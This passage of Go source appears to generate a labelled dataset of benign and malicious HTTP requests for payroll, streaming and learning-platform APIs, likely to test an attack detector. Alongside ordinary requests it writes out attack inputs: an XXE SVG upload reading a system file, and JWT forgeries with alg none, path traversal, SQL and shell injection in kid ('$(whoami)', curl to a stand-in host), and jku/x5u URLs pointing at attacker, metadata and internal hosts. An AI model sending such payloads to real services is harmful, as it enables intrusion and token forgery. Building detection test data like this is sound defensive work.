	{`query { students(pageSize: 20000, after: "c3R1ZGVudDox") { id name } }`, `{}`},
	{`query Hist($perPage: Int) { watchHistory(perPage: $perPage) { titleId progress } }`, `{"perPage":9999}`},
	{`query { submissions(take: 5000) { id score } }`, `{}`},
	{`query Pay($max: Int!) { payslips(maxItems: $max, period: "2026-09") { id net } }`, `{"max":30000}`},
}

var h4LimitPaths = []string{"/per_page/5000", "/limit/100000", "/page/1/per_page/20000", "/pagesize/9999"}

// ---- benign traffic ----

var h4FirstNames = []string{"Aoife", "Liam", "Priya", "Mateo", "Sofia", "Kwame", "Yuki", "Fatima", "Oliver", "Ines", "Tomasz", "Chen", "Amara", "Noah", "Zainab", "Lucas", "Hana", "Diego", "Elif", "Samuel"}
var h4LastNames = []string{"O'Brien", "Nguyen", "Okafor", "García", "Kowalski", "Smith-Jones", "D'Angelo", "Müller", "Haddad", "Tanaka", "O'Neill", "Fernández", "Adeyemi", "Lindqvist", "McAllister", "Rossi", "Van der Berg", "Ó Súilleabháin"}

// near-miss text: SQL-like words, harmless markup, templates, Markdown, code,
// math, paths, shell-ish words
var h4NearMiss = []string{
	"Please select your plan before the trial ends",
	"Drop-off date for the laptop is Friday",
	"Meet at Union Station, platform 4",
	"Reviewed by Siobhán O'Brien",
	"1=1 is true in math class, 1=2 is not",
	"Update: delete the old draft and insert the new chart",
	"<b>Great</b> episode, loved the <i>ending</i>",
	"<p>Week 4 reading: <a href=\"https://en.wikipedia.org/wiki/Photosynthesis\">Photosynthesis</a></p>",
	"Hello {{name}}, your payslip for {{month}} is ready",
	"Total: ${price} per seat, billed annually",
	"## Agenda\n- intro\n- **grading rubric**\n- Q&A",
	"Use `git log --oneline | head` to see recent commits",
	"```python\nfor row in rows:\n    print(row['score'])\n```",
	"if (a >= 0 && !b.frozen) { return a; }",
	"Solve: 3x + 2 = 11, so x = 3",
	"(a+b)^2 = a^2 + 2ab + b^2",
	"Save as reports/2026/q1.pdf",
	"Config lives in /etc/nginx/nginx.conf on the old box, see ../README.md",
	"Cat; dog food allowance is not an expense",
	"Run `ls -la` in the lab terminal",
	"Contact hr-team@acme-hr.example or +44 20 7946 0958",
	"The Drop Table Tennis club meets on Tuesdays",
	"Shift swap: nights -> days, where possible",
	"Order #40512 shipped; ref 20260117",
	"Bob's \"quick\" fix -- it worked",
	"Score >= 90 means an A; < 50 is a fail",
	"Select all that apply: (a) mitochondria (b) ribosome",
	"Ping me after standup; the who-is-who page is down for the intranet refresh",
	"Translate: 'Je m'appelle Marie'",
	"Server at 8.8.8.8 responded in 12 ms during the networking lab",
	"Use the SUM() function in the spreadsheet, then AVERAGE()",
	"Lesson: <em>the water cycle</em> &mdash; evaporation &amp; condensation",
	"Template: Dear ${firstName}, welcome aboard!",
	"Payroll cut-off is 25th; overtime > 10h needs approval",
	"She said \"OR else\" -- a quote from the novel",
	"localhost is just the name your own computer uses, explained in lesson 2",
}

var h4Webhooks = []string{"https://hooks.slack.com/services/T000/B000/XXXX", "https://webhook.site/4f1c2a9e-8d3b-4c7a-9e11-3a5f6b7c8d9e", "https://api.partner-hris.example/v1/events", "https://s3.eu-west-1.amazonaws.com/stream-artwork/poster-991.jpg", "https://cdn.jsdelivr.net/gh/lms-org/assets@1.2/logo.png", "https://calendar.google.com/calendar/ical/school%40example.org/public/basic.ics", "https://8.8.8.8/dns-query", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"}

// h4Benign builds benign exchanges for the three APIs.
func h4Benign(n int) []h4Item {
	var makers []func(c *h4Ctx, i int) h4Built
	ok := func(body string) *h4Resp { return h4RespJSON(200, body) }
	name := func(i int) (string, string) {
		return h4FirstNames[i%len(h4FirstNames)], h4LastNames[(i*7)%len(h4LastNames)]
	}
	near := func(i int) string { return h4NearMiss[i%len(h4NearMiss)] }
	auth := func(c *h4Ctx, r *h4Req, api int) {
		r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
	}
	ua := func(c *h4Ctx) string { return h4UAs[c.N%len(h4UAs)] }

	// --- payroll ---
	makers = append(makers,
		func(c *h4Ctx, i int) h4Built { // list employees with ordinary pagination
			lim := []int{10, 25, 50, 100, 200, 500}[i%6]
			r := h4NewReq("GET", fmt.Sprintf("https://api.payroll.example/api/v1/employees?limit=%d&offset=%d&department=%s", lim, (i%5)*lim, url.QueryEscape([]string{"Finance", "R&D", "People Ops", "Sales"}[i%4])), ua(c))
			auth(c, &r, 0)
			f, l := name(i)
			return h4Built{req: r, resp: ok(h4J(map[string]any{"data": []any{map[string]any{"id": fmt.Sprintf("E-%04d", 1000+i), "firstName": f, "lastName": l, "jobTitle": "Analyst"}}, "meta": map[string]any{"limit": lim, "total": 1843}})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // create employee with names with apostrophes
			f, l := name(i + 3)
			r := h4NewReq("POST", "https://api.payroll.example/api/v1/employees", ua(c))
			auth(c, &r, 0)
			r.body("application/json", h4J(map[string]any{"first_name": f, "last_name": l, "email": strings.ToLower(f) + "." + strings.ToLower(strings.NewReplacer("'", "", " ", "", "ü", "u", "í", "i", "Ó", "o", "á", "a").Replace(l)) + "@acme-hr.example", "phone": fmt.Sprintf("+1 415 555 %04d", 100+i%9000), "startDate": "2026-11-02", "notes": near(i)}))
			return h4Built{req: r, resp: h4RespJSON(201, h4J(map[string]any{"id": fmt.Sprintf("E-%04d", 3000+i), "status": "onboarding"})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // payslip with masked bank/card
			r := h4NewReq("GET", fmt.Sprintf("https://api.payroll.example/api/v1/employees/E-%04d/payslips/2026-%02d", 1000+i%800, 1+i%10), ua(c))
			auth(c, &r, 0)
			return h4Built{req: r, resp: ok(h4J(map[string]any{"period": fmt.Sprintf("2026-%02d", 1+i%10), "gross": "5120.00", "net": "3874.12", "currency": "EUR", "paidTo": map[string]any{"iban": "DE** **** **** **** **12 34", "card": "**** 4242"}, "document": fmt.Sprintf("payslips/2026/%02d/E-%04d.pdf", 1+i%10, 1000+i%800)})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // webhook registration with public URL
			r := h4NewReq("POST", "https://api.payroll.example/api/v1/webhooks", ua(c))
			auth(c, &r, 0)
			r.body("application/json", h4J(map[string]any{"webhookUrl": h4Webhooks[i%len(h4Webhooks)], "events": []string{"payrun.completed", "employee.created"}, "secretHint": "configured"}))
			return h4Built{req: r, resp: h4RespJSON(201, `{"id":"wh_01J9Z3","active":true}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // validation error response
			r := h4NewReq("PATCH", fmt.Sprintf("https://api.payroll.example/api/v1/employees/E-%04d", 1000+i%800), ua(c))
			auth(c, &r, 0)
			r.body("application/json", h4J(map[string]any{"email": "not-an-email", "jobTitle": near(i + 5)}))
			return h4Built{req: r, resp: h4RespJSON(422, `{"errors":[{"field":"email","message":"invalid email"}]}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // SOAP tax service (benign XML)
			f, l := name(i)
			r := h4NewReq("POST", "https://api.payroll.example/api/v1/soap/TaxService", ua(c))
			auth(c, &r, 0)
			r.Headers["Soapaction"] = []string{"\"urn:GetTaxCode\""}
			esc := strings.NewReplacer("&", "&amp;", "'", "&apos;", "<", "&lt;").Replace
			r.body("text/xml; charset=utf-8", `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetTaxCode xmlns="urn:payroll:tax"><employeeId>E-`+fmt.Sprint(1000+i%800)+`</employeeId><name>`+esc(f+" "+l)+`</name><year>2026</year><note>`+esc(near(i))+`</note></GetTaxCode></soap:Body></soap:Envelope>`)
			resp := h4RespType(200, "text/xml; charset=utf-8", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetTaxCodeResponse><code>1257L</code></GetTaxCodeResponse></soap:Body></soap:Envelope>`)
			return h4Built{req: r, resp: resp, tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // timesheets search with SQL-ish words
			r := h4NewReq("GET", "https://api.payroll.example/v2/timesheets?q="+url.QueryEscape([]string{"union station shift", "select committee", "drop-off rota", "O'Brien", "order by date", "where is my overtime", "1=1 meeting"}[i%7])+"&per_page=100", ua(c))
			auth(c, &r, 0)
			return h4Built{req: r, resp: ok(`{"items":[],"page":1,"per_page":100}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // 404
			r := h4NewReq("GET", fmt.Sprintf("https://api.payroll.example/api/v1/documents/reports%%2F2026%%2Fq%d.pdf", 1+i%4), ua(c))
			auth(c, &r, 0)
			return h4Built{req: r, resp: h4RespJSON(404, `{"error":"not_found","message":"Document not found"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // expense form post
			r := h4NewReq("POST", "https://api.payroll.example/api/v1/expenses", ua(c))
			auth(c, &r, 0)
			r.body("application/x-www-form-urlencoded", "merchant="+url.QueryEscape([]string{"Café Olé", "B&Q", "Smith's Books", "Union Station Parking"}[i%4])+"&amount=42.50&currency=GBP&description="+url.QueryEscape(near(i+2))+"&receipt=receipts%2F2026%2F10%2Fr"+fmt.Sprint(i)+".jpg")
			return h4Built{req: r, resp: h4RespJSON(201, `{"id":"exp_77120","status":"submitted","card":"Visa ending 4242"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // OAuth token response (own token)
			r := h4NewReq("POST", "https://api.payroll.example/oauth/token", ua(c))
			r.body("application/x-www-form-urlencoded", "grant_type=client_credentials&scope=employees%3Aread")
			r.Headers["Authorization"] = []string{"Basic " + base64.StdEncoding.EncodeToString([]byte("partner-hris:"+fmt.Sprint(10000+i)))}
			return h4Built{req: r, resp: ok(h4J(map[string]any{"access_token": h4ValidToken(c, 0), "token_type": "Bearer", "expires_in": 3600}))}
		},
	)
	// --- streaming ---
	makers = append(makers,
		func(c *h4Ctx, i int) h4Built {
			q := []string{"the union", "select few", "drop dead gorgeous", "1=1 documentary", "O'Brien's war", "<b>bold</b> moves", "café society", "where the crawdads sing", "or else", "Ocean's Eleven"}[i%10]
			r := h4NewReq("GET", "https://api.stream.example/v2/catalog/search?q="+url.QueryEscape(q)+"&limit=24&lang=en-US", ua(c))
			auth(c, &r, 1)
			return h4Built{req: r, resp: ok(h4J(map[string]any{"results": []any{map[string]any{"id": 9000 + i, "title": q, "rating": "PG-13"}}, "next": "eyJvZmZzZXQiOjI0fQ=="})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("POST", "https://api.stream.example/api/v1/playback/progress", ua(c))
			auth(c, &r, 1)
			r.body("application/json", h4J(map[string]any{"titleId": 9000 + i%500, "episodeId": fmt.Sprintf("ep_%05d", i), "positionMs": 1234000 + i, "deviceId": fmt.Sprintf("tv-%08x", i*7919)}))
			return h4Built{req: r, resp: h4RespJSON(204, ""), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("POST", "https://api.stream.example/api/v1/reviews", ua(c))
			auth(c, &r, 1)
			r.body("application/json", h4J(map[string]any{"title_id": 9000 + i%500, "stars": 1 + i%5, "comment": near(i + 7)}))
			return h4Built{req: r, resp: h4RespJSON(201, `{"id":"rev_`+fmt.Sprint(50000+i)+`","moderation":"pending"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("GET", "https://api.stream.example/v2/account/billing", ua(c))
			auth(c, &r, 1)
			return h4Built{req: r, resp: ok(h4J(map[string]any{"plan": "premium", "nextBilling": "2026-11-20", "paymentMethod": map[string]any{"brand": "visa", "last4": fmt.Sprintf("%04d", 1000+i%9000), "display": "**** **** **** " + fmt.Sprintf("%04d", 1000+i%9000)}, "invoiceNumber": fmt.Sprintf("INV-%012d", 202610000000+i*13)})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("PATCH", "https://api.stream.example/v2/profiles/"+fmt.Sprint(300+i%90), ua(c))
			auth(c, &r, 1)
			r.body("application/json", h4J(map[string]any{"avatar_url": []string{"https://cdn.stream.example/avatars/fox.png", "https://images.unsplash.com/photo-1518791841217-8f162f1e1131", "https://gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50"}[i%3], "displayName": h4FirstNames[i%len(h4FirstNames)], "maturity": "teen"}))
			return h4Built{req: r, resp: ok(`{"updated":true}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("GET", fmt.Sprintf("https://api.stream.example/v2/titles/%d/episodes?season=%d&page=%d&pageSize=%d", 9000+i%500, 1+i%6, 1+i%3, []int{20, 50, 100, 250}[i%4]), ua(c))
			auth(c, &r, 1)
			return h4Built{req: r, resp: ok(`{"episodes":[{"n":1,"title":"Pilot","durationSec":2710}],"page":1}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // CORS from trusted origin
			r := h4NewReq("GET", "https://api.stream.example/v2/recommendations?orderBy=score", ua(c))
			auth(c, &r, 1)
			r.Headers["Origin"] = []string{"https://www.stream.example"}
			resp := ok(`{"rows":[{"id":"continue","items":[9001,9002]}]}`)
			resp.Headers["Access-Control-Allow-Origin"] = []string{"https://www.stream.example"}
			resp.Headers["Access-Control-Allow-Credentials"] = []string{"true"}
			resp.Headers["Vary"] = []string{"Origin"}
			return h4Built{req: r, resp: resp, tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // graphql with normal paging
			r := h4NewReq("POST", "https://api.stream.example/graphql", ua(c))
			auth(c, &r, 1)
			r.body("application/json", h4J(map[string]any{"operationName": "Row", "query": "query Row($id: ID!, $first: Int) { row(id: $id) { titles(first: $first) { edges { node { id name } } } } }", "variables": map[string]any{"id": fmt.Sprintf("row_%d", i%20), "first": []int{10, 20, 40}[i%3]}}))
			return h4Built{req: r, resp: ok(`{"data":{"row":{"titles":{"edges":[]}}}}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // expired token refused (the API working)
			r := h4NewReq("GET", "https://api.stream.example/api/v1/profiles/me", ua(c))
			iat := c.T.Add(-30 * time.Hour)
			r.Headers["Authorization"] = []string{"Bearer " + h4Token(map[string]any{"alg": "RS256", "typ": "JWT", "kid": "rsa-prod-7f3a"}, map[string]any{"sub": fmt.Sprintf("usr_%d", i), "iat": iat.Unix(), "exp": iat.Add(time.Hour).Unix()})}
			return h4Built{req: r, resp: h4RespJSON(401, `{"error":"invalid_token","error_description":"The access token expired"}`), tokenIntent: "refused"}
		},
		func(c *h4Ctx, i int) h4Built { // captions with markup in VTT
			r := h4NewReq("GET", fmt.Sprintf("https://api.stream.example/v2/subtitles?titleId=%d&lang=%s", 9000+i%500, []string{"en", "fr-CA", "pt-BR", "ja"}[i%4]), ua(c))
			auth(c, &r, 1)
			return h4Built{req: r, resp: h4RespType(200, "text/vtt", "WEBVTT\n\n00:00:01.000 --> 00:00:03.500\n<i>Previously on</i> <b>Harbour Lights</b>\n\n00:00:04.000 --> 00:00:06.000\nSELECT your seat, the show starts now.\n"), tokenIntent: "valid"}
		},
	)
	// --- LMS ---
	makers = append(makers,
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("POST", "https://lms.example/api/v1/forum/posts", ua(c))
			auth(c, &r, 2)
			r.body("application/json", h4J(map[string]any{"threadId": 700 + i%60, "body_markdown": near(i + 11), "attachments": []any{map[string]any{"name": fmt.Sprintf("lab-%d.v2.ipynb", i%9), "path": fmt.Sprintf("courses/cs101/week%d/lab.ipynb", 1+i%12)}}}))
			return h4Built{req: r, resp: h4RespJSON(201, `{"id":`+fmt.Sprint(80000+i)+`,"status":"published"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("POST", "https://lms.example/api/v1/submissions", ua(c))
			auth(c, &r, 2)
			r.body("application/json", h4J(map[string]any{"assignment_id": 4100 + i%80, "answers": []any{map[string]any{"q": 1, "text": near(i + 13)}, map[string]any{"q": 2, "text": []string{"x = (-b ± √(b²-4ac)) / 2a", "2 > 1 and 3 < 4 are both true", "SELECT is the keyword we learned for queries", "f(x) = x^2 + 3x", "cos(0) = 1"}[i%5]}}}))
			return h4Built{req: r, resp: h4RespJSON(201, `{"submitted":true,"late":false}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("GET", fmt.Sprintf("https://lms.example/api/v1/courses?term=2026-fall&page=%d&per_page=%d&sort=title", 1+i%4, []int{20, 50, 100}[i%3]), ua(c))
			auth(c, &r, 2)
			return h4Built{req: r, resp: ok(`{"courses":[{"id":311,"code":"BIO-201","title":"Cells & Systems"}],"total":48}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("PUT", fmt.Sprintf("https://lms.example/api/v1/courses/%d/announcements/%d", 300+i%40, i), ua(c))
			auth(c, &r, 2)
			r.body("application/json", h4J(map[string]any{"html": []string{"<p>Field trip on <b>Friday</b>. Bring a packed lunch.</p>", "<ul><li>Read chapter 3</li><li>Watch <a href=\"https://www.khanacademy.org/science\">this</a></li></ul>", "<p>Dear {{student.first_name}}, grades are out.</p>", "<h2>Exam</h2><p>Room 2.14, bring a calculator &amp; pencil</p>", "<img src=\"https://cdn.lms.example/banners/fall.png\" alt=\"Fall term\">"}[i%5], "publishAt": "2026-10-21T08:00:00Z"}))
			return h4Built{req: r, resp: ok(`{"ok":true}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("GET", fmt.Sprintf("https://lms.example/api/v1/students/%d/grades?course=%s", 20000+i%900, []string{"BIO-201", "MATH-110", "ENG-12", "HIST-9"}[i%4]), ua(c))
			auth(c, &r, 2)
			f, l := name(i + 1)
			return h4Built{req: r, resp: ok(h4J(map[string]any{"student": f + " " + l, "grades": []any{map[string]any{"item": "Quiz 1", "score": 8, "max": 10}, map[string]any{"item": "Essay", "score": 17, "max": 20, "feedback": near(i + 17)}}})), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("POST", "https://lms.example/api/v1/calendar/subscribe", ua(c))
			auth(c, &r, 2)
			r.body("application/x-www-form-urlencoded", "icsUrl="+url.QueryEscape(h4Webhooks[(i+5)%len(h4Webhooks)])+"&label="+url.QueryEscape("School holidays"))
			return h4Built{req: r, resp: h4RespJSON(202, `{"status":"queued"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built {
			r := h4NewReq("GET", fmt.Sprintf("https://lms.example/api/v1/files/%s", url.PathEscape(fmt.Sprintf("handouts/2026/week-%02d.final.pdf", 1+i%14))), ua(c))
			auth(c, &r, 2)
			return h4Built{req: r, resp: h4RespJSON(404, `{"error":"not_found"}`), tokenIntent: "valid"}
		},
		func(c *h4Ctx, i int) h4Built { // login with wrong password, ordinary error
			r := h4NewReq("POST", "https://lms.example/api/v1/session", ua(c))
			r.body("application/json", h4J(map[string]any{"username": fmt.Sprintf("student%04d", i), "password": "correct horse " + fmt.Sprint(i)}))
			r.Headers["X-Forwarded-For"] = []string{fmt.Sprintf("192.0.2.%d", 1+i%250)}
			return h4Built{req: r, resp: h4RespJSON(401, `{"error":"invalid_credentials","message":"Username or password is incorrect"}`)}
		},
		func(c *h4Ctx, i int) h4Built { // LTI tool config with public key (public JWK)
			r := h4NewReq("GET", "https://lms.example/api/v1/lti/.well-known/jwks.json", ua(c))
			return h4Built{req: r, resp: ok(h4J(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "lms-signing-2026q4", "use": "sig", "alg": "RS256", "e": "AQAB", "n": h4FakeSig(fmt.Sprint("n", i%3), 256)}}}))}
		},
		func(c *h4Ctx, i int) h4Built { // messages with code snippet and cookie prefs
			r := h4NewReq("POST", "https://lms.example/api/v1/messages", ua(c))
			auth(c, &r, 2)
			r.Headers["Cookie"] = []string{"ui_lang=en-GB; tz_pref=Europe%2FLondon; last_search=" + url.QueryEscape([]string{"union", "select elective", "o'neill"}[i%3])}
			r.Headers["X-Api-Version"] = []string{"2026-09-01"}
			r.body("application/json", h4J(map[string]any{"toUserId": 20000 + i%900, "messageBody": near(i + 19), "meta": map[string]any{"client": "web", "refs": []string{"https://docs.python.org/3/tutorial/", "mailto:office@lms.example"}}}))
			return h4Built{req: r, resp: h4RespJSON(201, `{"id":"msg_`+fmt.Sprint(i)+`"}`), tokenIntent: "valid"}
		},
	)
	var items []h4Item
	for i := 0; i < n; i++ {
		i := i
		m := makers[(i*7)%len(makers)]
		items = append(items, func(c *h4Ctx) h4Built { return m(c, i) })
	}
	return items
}

// ---- attack items other than generic injections ----

func h4OtherItems() []h4Item {
	var items []h4Item
	// command injection, traversal, SSTI: rotate placements
	items = append(items, h4InjectItems(h4Other, h4CmdPayloads, []int{h4PQuery, h4PForm, h4PJSON, h4PJSONArr, h4PPath, h4PCookie, h4PJSONDeep}, 1)...)
	items = append(items, h4InjectItems(h4Other, h4TraversalPayloads, []int{h4PQuery, h4PPath, h4PJSON, h4PForm}, 2)...)
	items = append(items, h4InjectItems(h4Other, h4SSTIPayloads, []int{h4PJSON, h4PQuery, h4PForm, h4PJSONDeep, h4PGraphQL}, 0)...)
	// Log4Shell mostly in headers, as scanners spray it
	items = append(items, h4InjectItems(h4Other, h4Log4jPayloads, []int{h4PUA, h4PReferer, h4PXFF, h4PAPIVer, h4PCookie, h4PQuery, h4PJSON}, 0)...)
	for i, b := range h4NoSQLBodies {
		i, b := i, b
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			base := h4Hosts(api)
			u := base + b.path
			if b.query != "" {
				u += "?" + b.query
			}
			r := h4NewReq(b.method, u, h4Pick(c.rng, h4AttackUAs))
			if b.body != "" {
				r.body(b.ctype, b.body)
			}
			return h4Built{req: r, resp: h4RespJSON([]int{401, 200, 400}[i%3], `{"result":null}`), labels: []string{h4Other}}
		})
	}
	for i, b := range h4XXEBodies {
		i, b := i, b
		items = append(items, func(c *h4Ctx) h4Built {
			base := h4Hosts(i % 3)
			if strings.HasPrefix(b.path, "/api/v1/payroll") || strings.Contains(b.path, "TaxService") {
				base = h4Hosts(0)
			}
			r := h4NewReq("POST", base+b.path, h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, i%3)}
			r.body(b.ctype, b.body)
			return h4Built{req: r, resp: h4RespJSON(400, `{"error":"import_failed"}`), labels: []string{h4Other}, tokenIntent: "valid"}
		})
	}
	// XXE in an uploaded SVG
	items = append(items, func(c *h4Ctx) h4Built {
		r := h4NewReq("POST", "https://lms.example/api/v1/profile/photo", h4AttackUAs[0])
		bnd := "----WebKitFormBoundaryh4XXE9q2"
		svg := `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&xxe;</text></svg>`
		r.body("multipart/form-data; boundary="+bnd, "--"+bnd+"\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"me.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n"+svg+"\r\n--"+bnd+"--\r\n")
		return h4Built{req: r, resp: h4RespJSON(201, `{"photo":"https://cdn.lms.example/p/20931.png"}`), labels: []string{h4Other}}
	})
	return items
}

func h4XSSItems() []h4Item {
	items := h4InjectItems(h4XSS, h4XSSPayloads, []int{h4PJSON, h4PQuery, h4PForm, h4PJSONDeep, h4PReferer, h4PJSONArr, h4PPath, h4PCookie, h4PGraphQL, h4PUA}, 1)
	for i, u := range h4XSSUploads {
		i, u := i, u
		items = append(items, func(c *h4Ctx) h4Built {
			path := []string{"https://api.payroll.example/api/v1/employees/E-1042/avatar", "https://api.stream.example/v2/profiles/311/badge", "https://lms.example/api/v1/courses/311/files"}[i%3]
			r := h4NewReq("POST", path, h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, i)}
			bnd := fmt.Sprintf("----formdata-h4-%d", 7700+i)
			r.body("multipart/form-data; boundary="+bnd, "--"+bnd+"\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+u.name+"\"\r\nContent-Type: "+u.ctype+"\r\n\r\n"+u.content+"\r\n--"+bnd+"\r\nContent-Disposition: form-data; name=\"visibility\"\r\n\r\ncourse\r\n--"+bnd+"--\r\n")
			return h4Built{req: r, resp: h4RespJSON(201, `{"uploaded":true}`), labels: []string{h4XSS}, tokenIntent: "valid"}
		})
	}
	return items
}

func h4SSRFItems() []h4Item {
	var items []h4Item
	for i, t := range h4SSRFTargets {
		i, t := i, t
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			sp := h4SSRFSpots[api][(i/3)%len(h4SSRFSpots[api])]
			base := h4Hosts(api)
			var r h4Req
			if sp.method == "GET" {
				r = h4NewReq("GET", base+sp.path+"?"+sp.param+"="+url.QueryEscape(t)+"&w=320", h4Pick(c.rng, h4AttackUAs))
			} else if i%4 == 1 {
				r = h4NewReq(sp.method, base+sp.path, h4Pick(c.rng, h4AttackUAs))
				r.body("application/x-www-form-urlencoded", sp.param+"="+url.QueryEscape(t)+"&retry=3")
			} else if i%4 == 2 {
				r = h4NewReq(sp.method, base+sp.path, h4Pick(c.rng, h4AttackUAs))
				r.body("application/json", h4J(map[string]any{"config": map[string]any{"delivery": map[string]any{sp.param: t, "timeoutMs": 5000}}}))
			} else {
				r = h4NewReq(sp.method, base+sp.path, h4Pick(c.rng, h4AttackUAs))
				r.body("application/json", h4J(map[string]any{sp.param: t, "description": "sync"}))
			}
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			return h4Built{req: r, resp: h4RespJSON([]int{200, 202, 400, 502}[i%4], `{"status":"accepted"}`), labels: []string{h4SSRF}, tokenIntent: "valid"}
		})
	}
	for i, h := range h4HostOverride {
		i, h := i, h
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			r := h4NewReq("GET", h4Hosts(api)+[]string{"/api/v1/password-reset/start", "/v2/account/verify-email", "/v1/session/sso"}[api], h4Pick(c.rng, h4AttackUAs))
			r.Headers[h.name] = []string{h.val}
			return h4Built{req: r, resp: h4RespJSON(200, `{"sent":true}`), labels: []string{h4SSRF}}
		})
	}
	return items
}

func h4JWTItems() []h4Item {
	type spec struct {
		hdr    map[string]any
		sig    string // "keep", "empty", "drop"
		expOff time.Duration
		nbfOff time.Duration // >0: nbf in the future
		intent string
	}
	var specs []spec
	// alg none in its spellings
	for _, a := range []string{"none", "None", "NONE", "nOnE", "none ", "NoNe"} {
		specs = append(specs, spec{hdr: map[string]any{"alg": a, "typ": "JWT"}, sig: "empty", expOff: 2 * time.Hour, intent: "valid"})
	}
	specs = append(specs, spec{hdr: map[string]any{"alg": "none"}, sig: "drop", expOff: time.Hour, intent: "valid"})
	specs = append(specs, spec{hdr: map[string]any{"alg": "none", "typ": "JWT"}, sig: "keep", expOff: time.Hour, intent: "valid"})
	// empty / dropped signature with a real algorithm
	for _, a := range []string{"HS256", "RS256", "ES256", "HS512", "PS256", "RS384"} {
		specs = append(specs, spec{hdr: map[string]any{"alg": a, "typ": "JWT"}, sig: "empty", expOff: 3 * time.Hour, intent: "valid"})
	}
	for _, a := range []string{"HS256", "RS256", "EdDSA", "ES384"} {
		specs = append(specs, spec{hdr: map[string]any{"alg": a, "typ": "JWT"}, sig: "drop", expOff: 3 * time.Hour, intent: "valid"})
	}
	// expired tokens answered 2xx
	for _, d := range []time.Duration{-2 * time.Hour, -26 * time.Hour, -72 * time.Hour, -30 * 24 * time.Hour, -3 * time.Hour, -400 * 24 * time.Hour, -5 * time.Hour, -48 * time.Hour, -7 * 24 * time.Hour, -90 * time.Minute, -12 * time.Hour, -200 * 24 * time.Hour} {
		specs = append(specs, spec{hdr: map[string]any{"alg": []string{"HS256", "RS256", "ES256"}[len(specs)%3], "typ": "JWT"}, sig: "keep", expOff: d, intent: "expired"})
	}
	// not yet valid
	for _, d := range []time.Duration{6 * time.Hour, 48 * time.Hour, 30 * 24 * time.Hour} {
		specs = append(specs, spec{hdr: map[string]any{"alg": "RS256", "typ": "JWT"}, sig: "keep", expOff: d + time.Hour, nbfOff: d, intent: "notyet"})
	}
	// kid tricks: paths, SQL, shell
	for _, k := range []string{"../../../../../../dev/null", "/proc/sys/kernel/randomize_va_space", "..\\..\\..\\keys\\public.pem", "../../../../../../../etc/hostname", "/var/www/html/static/css/app.css", "....//....//dev/null",
		"x' UNION SELECT 'h4secret' -- ", "1' OR '1'='1", "k1' AND SLEEP(3)#", "kid\" ; SELECT 'a' --",
		"key1|/usr/bin/id", "k; curl x40.oast.example", "$(whoami)", "k && sleep 5", "`id`"} {
		specs = append(specs, spec{hdr: map[string]any{"alg": "HS256", "typ": "JWT", "kid": k}, sig: "keep", expOff: 2 * time.Hour, intent: "valid"})
	}
	// jku / x5u to untrusted or internal hosts
	for _, u := range []string{"http://127.0.0.1:8080/jwks.json", "https://x41.oast.example/.well-known/jwks.json", "http://169.254.169.254/latest/user-data", "https://auth.payroll.example@x42.oast.example/jwks", "http://10.0.4.20/keys.json", "https://raw.githubusercontent.com/attacker-h4/keys/main/jwks.json"} {
		specs = append(specs, spec{hdr: map[string]any{"alg": "RS256", "typ": "JWT", "jku": u, "kid": "attacker"}, sig: "keep", expOff: 2 * time.Hour, intent: "valid"})
	}
	for _, u := range []string{"https://x43.oast.example/cert.pem", "http://192.168.10.5/ca.crt", "http://localhost/x5u.pem", "https://pastebin.com/raw/h4Cert01"} {
